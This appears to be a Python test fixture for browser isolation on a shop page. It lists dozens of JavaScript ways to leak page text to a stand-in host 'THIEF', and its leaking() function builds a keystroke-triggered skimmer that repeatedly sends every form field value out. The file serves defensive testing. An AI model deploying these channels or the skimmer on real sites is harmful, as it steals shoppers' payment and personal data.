"""Ways a page's script sends text elsewhere: statements that have `text`, and `host` of the attacker.

`steps` run once before: they put into the page what the way needs. All ways but the `SHUT` ones do reach a
host that is declared: that is the control.
"""

REQUESTS = {
    "fetch": "fetch(`http://${host}/${text}`, {mode: 'no-cors', keepalive: true})",
    "post": "fetch(`http://${host}/`, {method: 'POST', mode: 'no-cors', body: text})",
    "xhr": "const x = new XMLHttpRequest(); x.open('POST', `http://${host}/`); x.send(text)",
    "beacon": "navigator.sendBeacon(`http://${host}/`, text)",
    "event source": "new EventSource(`http://${host}/${text}`)",
    "dynamic import": "import(`http://${host}/${text}.js`).catch(() => 0)",
    "request in a blob worker": """const code = `fetch('http://${host}/${text}', {mode: 'no-cors'})`;
        new Worker(URL.createObjectURL(new Blob([code])))""",
    "script of a worker": """const code = `importScripts('http://${host}/${text}.js')`;
        new Worker(URL.createObjectURL(new Blob([code])))""",
    "socket of a blob worker": """const code = `new WebSocket('ws://${host}/${text}')`;
        new Worker(URL.createObjectURL(new Blob([code])))""",
    "socket of a shared worker": "new SharedWorker(`/worker.js?${host}/${text}`)",
    "socket of a service worker": "navigator.serviceWorker.register(`/worker.js?${host}/${text}`)",
    "web socket": "new WebSocket(`ws://${host}/${text}`)",
    "identity provider": """navigator.credentials.get({identity: {providers: [{configURL: url,
        clientId: text}]}}).catch(() => 0)""",
    "worklet": "CSS.paintWorklet.addModule(`http://${host}/${text}.js`).catch(() => 0)",
}

ELEMENTS = {
    "image": "add('img', {src: url})",
    "image set": "add('img', {srcset: `${url} 2x, ${url}x 1x`})",
    "script": "add('script', {src: url})",
    "style sheet": "add('link', {rel: 'stylesheet', href: url})",
    "imported style": "add('style', {textContent: `@import '${url}';`})",
    "background": "document.body.style.backgroundImage = `url('${url}')`",
    "cursor": "add('style', {textContent: `#number, body, html { cursor: url('${url}'), auto } b {}`}); "
    "document.body.style.listStyleImage = `url('${url}l')`; document.body.style.display = 'list-item'",
    "font": """add('style', {textContent: `@font-face { font-family: 'f${text}'; src: url('${url}') }`});
        add('b', {textContent: 'b', style: `font-family: 'f${text}'`})""",
    "value selector": """document.querySelector('#number').setAttribute('value', text);
        add('style', {textContent: `#number[value^="${text.slice(0, 4)}"] { background: url('${url}') }`})""",
    "video": "add('video', {src: url, preload: 'auto'})",
    "poster": "add('video', {poster: url})",
    "object": "add('object', {data: url})",
    "embed": "add('embed', {src: url})",
    "frame": "add('iframe', {src: url})",
    "image button": "add('input', {type: 'image', src: url})",
    "drawing": """document.body.insertAdjacentHTML('beforeend', `<svg><image href="${url}" width=9 height=9 />
        <filter id=f><feImage href="${url}i"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`)""",
    "preload": "add('link', {rel: 'preload', as: 'fetch', crossOrigin: 'anonymous', href: url})",
    "module preload": "add('link', {rel: 'modulepreload', href: url})",
    "prefetch": "add('link', {rel: 'prefetch', href: url})",
    "download": "add('a', {href: url, download: text}).click()",
    "speculation": """add('script', {type: 'speculationrules',
        textContent: JSON.stringify({prefetch: [{source: 'list', urls: [url], eagerness: 'immediate'}]})})""",
    "manifest": "add('link', {rel: 'manifest', href: url}); add('img', {src: url + 'm'})",
    "form in a frame": """add('iframe', {name: 'sink'});
        const f = add('form', {action: url, method: 'post', target: 'sink'});
        const field = document.createElement('input'); field.name = 'x'; field.value = text; f.append(field);
        f.submit()""",
    "message to a foreign frame": "document.querySelector('#mate').contentWindow.postMessage(text, '*')",
}

PLACES = {
    "address": "location.assign(url)",
    "replaced address": "location.replace(url)",
    "refresh": "add('meta', {httpEquiv: 'refresh', content: `0;url=${url}`})",
    "link": "add('a', {href: url}).click()",
    "form": "add('form', {action: url, method: 'post'}).submit()",
    "form in the address": """const f = add('form', {action: `http://${host}/`});
        f.innerHTML = `<input name=x value="${text}">`; f.submit()""",
    "redirect of the shop": "location.assign('/away?' + url)",
    "frame above": "window.top.location.href = url",
}
"""Ways that leave the page: never allowed to a host that is not declared, secret or not."""

SHUT = {
    "new window": "window.open(url)",
    "new window of a link": "add('a', {href: url, target: '_blank'}).click()",
    "ping": "const a = add('a', {href: '#here', ping: url}); a.click()",
    "name resolution": "add('link', {rel: 'dns-prefetch', href: url})",
    "early connection": "add('link', {rel: 'preconnect', href: url}); add('i', {})",
    "call": """const call = new RTCPeerConnection({iceServers: [{urls: [`stun:${host}`]},
          {urls: [`turn:${host}?transport=tcp`, `turn:${host}`], username: text, credential: text}]});
        call.createDataChannel('x'); call.createOffer().then((offer) => call.setLocalDescription(offer))""",
    "transport": "new WebTransport(`https://${host}/${text}`).ready.catch(() => 0)",
    "report of a broken policy": """const meta = add('meta', {httpEquiv: 'Content-Security-Policy',
          content: `img-src 'none'; report-uri ${url}`}); add('img', {src: '/' + text})""",
    "shared": "navigator.share?.({url}).catch(() => 0)",
    "payment application": """new PaymentRequest([{supportedMethods: `https://${host}/${text}`}],
        {total: {label: 'x', amount: {currency: 'USD', value: '1.00'}}}).show().catch(() => 0)""",
    "other program": "location.assign(`mailto:${text}@${host}`)",
}
"""Ways that are closed at all times, also to hosts that are declared."""

WORKER = """new WebSocket('ws://' + location.search.slice(1));
fetch('http://' + location.search.slice(1), {mode: 'no-cors'});"""


def leaking(way: str) -> str:
    """A script that sends away all that fields hold, again and again, from their first input event on.

    Each round ends with a request to the shop itself, which tells the test that the round was made.
    """
    return f"""<iframe id=mate src="http://THIEF/mate" width=9 height=9></iframe><i id=here></i><script>
      const host = "THIEF";
      const add = (name, values) => document.body.appendChild(
        Object.assign(document.createElement(name), values));
      const leak = (text) => {{
        const url = `http://${{host}}/${{text}}`;
        try {{ {way} }} catch (error) {{}}
      }};
      let rounds = 0;
      const round = () => {{
        if (rounds === 12) return;
        leak([...document.forms[0].querySelectorAll('input')].map((field) => field.value).join('-'));
        rounds += 1;
        fetch('/after?' + rounds);
      }};
      let clock = 0;
      for (const name of ['input', 'change', 'beforeinput', 'keydown', 'focusout'])
        document.addEventListener(name, () => {{ round(); clock ||= setInterval(round, 30); }}, true);
    </script>"""
